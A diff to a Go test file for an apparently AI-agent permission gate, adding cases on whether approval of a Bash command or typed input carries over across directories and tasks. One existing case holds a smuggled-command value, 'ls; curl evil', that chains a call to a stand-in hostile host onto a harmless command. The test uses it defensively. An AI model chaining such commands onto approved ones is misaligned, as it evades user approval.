@@ -62,6 +62,16 @@ func runs(command string) agent.GateCall {
 	return agent.GateCall{Tool: "Bash", Access: agent.Access{Command: command}}
 }
 
+func runsIn(command, dir string) agent.GateCall {
+	call := runs(command)
+	call.Access.Dir = dir
+	return call
+}
+
+func types(text, task string) agent.GateCall {
+	return agent.GateCall{Tool: "WriteStdin", Access: agent.Access{Command: text, Task: task}}
+}
+
 func TestModes(t *testing.T) { // K-12, OAS-621, OAS-622
 	t.Parallel()
 	in, out := world(t)
@@ -163,6 +173,12 @@ func TestGrantHoldsForEqualCalls(t *testing.T) { // T8
 		want           agent.Decision
 	}{
 		{"same command", runs("make test"), runs("make test"), agent.Allow},
+		{"same command there", runsIn("make test", in("sub")), runsIn("make test", in("sub")), agent.Allow},
+		{"same command there through a link", runsIn("make test", out("back")), runsIn("make test", in("sub")), agent.Allow},
+		{"same command in another directory", runs("make test"), runsIn("make test", out("dir")), agent.Ask},
+		{"same command back here", runsIn("make test", out("dir")), runs("make test"), agent.Ask},
+		{"same text typed to the same command", types("y\n", "1"), types("y\n", "1"), agent.Allow},
+		{"same text typed to another command", types("y\n", "1"), types("y\n", "2"), agent.Ask},
 		{"longer command", runs("ls"), runs("ls; curl evil"), agent.Ask},
 		{"same command, other tool", runs("ls"), agent.GateCall{Tool: "Other", Access: runs("ls").Access}, agent.Ask},
 		{"same file", writes(in("file")), writes(in("file")), agent.Allow},
